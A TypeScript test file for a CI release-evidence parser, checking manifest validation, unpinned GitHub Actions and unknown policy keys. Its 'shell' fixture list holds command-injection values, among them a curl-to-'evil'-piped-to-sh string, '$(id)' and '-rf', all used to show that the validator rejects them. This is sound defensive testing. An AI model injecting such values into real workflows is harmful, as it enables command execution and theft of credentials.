import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { manifestText } from '../../src/domain/release/manifest-text.ts';
import { understand } from '../../src/evidence/facts.ts';
import { unpinnedActions } from '../../src/evidence/pinned-actions.ts';
import { readPipelinePolicy } from '../../src/evidence/pipeline-policy.ts';
import { manifest, tests } from '../policy/documents.ts';
import { sha } from '../policy/shelf.ts';

const base = { schemaVersion: 1, sha };

function stages(...spans: readonly (readonly [string, string])[]): unknown {
  return { ...base, stages: spans.map(([startedAt, finishedAt]) => ({ name: 'x', startedAt, finishedAt })) };
}

describe('a file of evidence', () => {
  test('says how long a pipeline took, from its first start to its last end', () => {
    const value = stages(
      ['2026-11-02T10:02:00Z', '2026-11-02T10:04:30Z'],
      ['2026-11-02T11:00:00+01:00', '2026-11-02T11:03:00+01:00'],
    );

    expect(understand('timing', value)).toMatchObject({ kind: 'facts', facts: { ms: 270_000 } });
  });

  test('says X of Y for each suite of tests', () => {
    expect(understand('tests', tests)).toMatchObject({
      facts: {
        suites: [
          { name: 'unit', passed: 812, total: 812 },
          { name: 'e2e', passed: 9, total: 9 },
        ],
      },
    });
  });

  test.each([
    ['timing', stages(), 'stages: there are none'],
    ['timing', stages(['2026-11-02T10:00:00Z', '2026-11-02T09:00:00Z']), 'stages.0: it finished before it started'],
    ['tests', { ...base, suites: { unit: { passed: 2, total: 1 } } }, 'suites.unit: more tests passed than there are'],
    [
      'release-candidate',
      { ...manifest, images: [{ name: 'api', ref: 'x:v1' }] },
      'images.0.ref: name the image by its digest',
    ],
  ] as const)('names the field that is wrong in %s', (kind, value, detail) => {
    expect(understand(kind, value)).toEqual({ kind: 'wrong-shape', detail });
  });
});

describe('a manifest, which becomes an input of a workflow that may hold production’s credentials', () => {
  const digest = `@sha256:${'a'.repeat(64)}`;
  const plain = `acme.azurecr.io/api${digest}`;
  function read(change: object): ReturnType<typeof understand<'release-candidate'>> {
    return understand('release-candidate', { ...manifest, ...change });
  }
  function withImage(change: object): ReturnType<typeof read> {
    return read({ images: [{ name: 'api', ref: plain, ...change }] });
  }
  const shell = [
    "x';curl${IFS}evil|sh;'",
    '$(id)',
    '`id`',
    'a b',
    'a\nb',
    'a;b',
    'a|b',
    'a&b',
    'a>b',
    'a"b',
    "a'b",
    'a\\b',
    'a#b',
    'a{b}',
    'a*',
    '~a',
    '!a',
    '-rf',
    '--upload-file=x',
    'a\u0000b',
    'a\u202eb',
    'ａｐｉ',
    '',
  ];

  test.each(shell)('is no manifest with %j as the name of an image', (name) => {
    expect(withImage({ name })).toMatchObject({ kind: 'wrong-shape' });
  });

  test.each(shell)('is no manifest with %j in the place where an image lies', (place) => {
    expect(withImage({ ref: `${place}${digest}` })).toMatchObject({ kind: 'wrong-shape' });
  });

  test.each(shell)('is no manifest with %j as its version', (version) => {
    expect(read({ version })).toMatchObject({ kind: 'wrong-shape' });
  });

  test.each([...shell, '12a', '1e3', '-1', '1'.repeat(21)])('is no manifest with %j as the id of its run', (runId) => {
    expect(read({ runId })).toMatchObject({ kind: 'wrong-shape' });
  });

  test.each([`${plain} `, ` ${plain}`, `${plain}\n`, `${plain};id`, `${plain}${digest}`, plain.replace('@', '@@')])(
    'is no manifest with anything around an image’s digest: %j',
    (ref) => {
      expect(withImage({ ref })).toMatchObject({ kind: 'wrong-shape' });
    },
  );

  test.each(['api', 'checkout-api', 'checkout_api', 'team/api', 'api.v2', '2fa', 'c++'])(
    'may name an image %s',
    (name) => {
      expect(withImage({ name })).toMatchObject({ kind: 'facts', facts: { images: [{ name }] } });
    },
  );

  test.each([
    'acme.azurecr.io/checkout-api',
    'localhost:5000/api',
    'ghcr.io/Acme/team/api:v2.14.0',
    'registry-1.docker.io/a_b/c',
  ])('may have an image at %s', (place) => {
    expect(withImage({ ref: `${place}${digest}` })).toMatchObject({ kind: 'facts' });
  });

  test.each(['v2.14.0', '2026.11.02-rc.1', '1.0.0+build.5', 'release/2.14'])('may have the version %s', (version) => {
    expect(read({ version })).toMatchObject({ kind: 'facts', facts: { version } });
  });

  test('of the longest kind fits into an input of GitHub, which takes 65,535 characters', () => {
    const images = Array.from({ length: 50 }, (_, index) => ({
      name: `${index}`.padEnd(100, 'n'),
      ref: `${'r'.repeat(400 - digest.length)}${digest}`,
    }));
    const found = read({ images, version: 'v'.repeat(100), runId: '9'.repeat(20) });

    expect(found).toMatchObject({ kind: 'facts' });
    expect(found.kind === 'facts' ? manifestText(sha, found.facts).length : 0).toBeLessThan(65_535);
    expect(read({ images: [...images, { name: 'one-more', ref: plain }] })).toMatchObject({ kind: 'wrong-shape' });
  });

  test.each(['image', 'ref', 'version', 'runId'])(
    'is passed on in no letter that a shell would act upon, in its %s',
    (field) => {
      fc.assert(
        fc.property(fc.string({ unit: 'grapheme', maxLength: 30 }), (text) => {
          const change =
            field === 'image' || field === 'ref'
              ? {
                  images: [
                    { name: field === 'image' ? text : 'api', ref: field === 'ref' ? `${text}${digest}` : plain },
                  ],
                }
              : { [field]: text };
          const found = read(change);
          const words = found.kind === 'facts' ? manifestText(sha, found.facts) : '';
          expect(words.replaceAll(/[[\]{}":,]/g, '')).toMatch(/^[A-Za-z0-9@._+/-]*$/);
        }),
      );
    },
  );
});

describe('an action in a workflow', () => {
  const pinned = 'a'.repeat(40);
  test.each([
    ['- uses: actions/checkout@v4', ['actions/checkout@v4']],
    ['uses: "actions/checkout@main"', ['actions/checkout@main']],
    ["- 'uses': 'actions/checkout@v4'", ['actions/checkout@v4']],
    ['- { name: x, uses: actions/checkout@v4 }', ['actions/checkout@v4']],
    [
      `uses: acme/shared/.github/workflows/x.yml@${pinned.slice(1)}`,
      [`acme/shared/.github/workflows/x.yml@${pinned.slice(1)}`],
    ],
    ['uses: docker://alpine:3', ['docker://alpine:3']],
    ['uses:', ['']],
  ])('is not fixed: %s', (line, unpinned) => {
    expect(unpinnedActions(`jobs:\n  a:\n    steps:\n      ${line}\n`)).toEqual(unpinned);
  });

  test.each([
    `- uses: actions/checkout@${pinned} # v4`,
    `uses: acme/shared/.github/workflows/x.yml@${pinned}`,
    'uses: ./.github/actions/setup',
    `uses: docker://alpine@sha256:${'b'.repeat(64)}`,
    '# - uses: actions/checkout@v4',
    'run: echo reuses: nothing',
  ])('is fixed, or none: %s', (line) => {
    expect(unpinnedActions(`jobs:\n  a:\n    steps:\n      ${line}\n`)).toEqual([]);
  });
});

test('a pipeline policy tells the keys that nobody knows and obeys none of them', () => {
  const read = readPipelinePolicy('{"schemaVersion":1,"allowedSecrets":["A"],"skipEverything":true}');

  expect(read).toMatchObject({ kind: 'policy', unknownKeys: ['skipEverything'], policy: { allowedSecrets: ['A'] } });
});
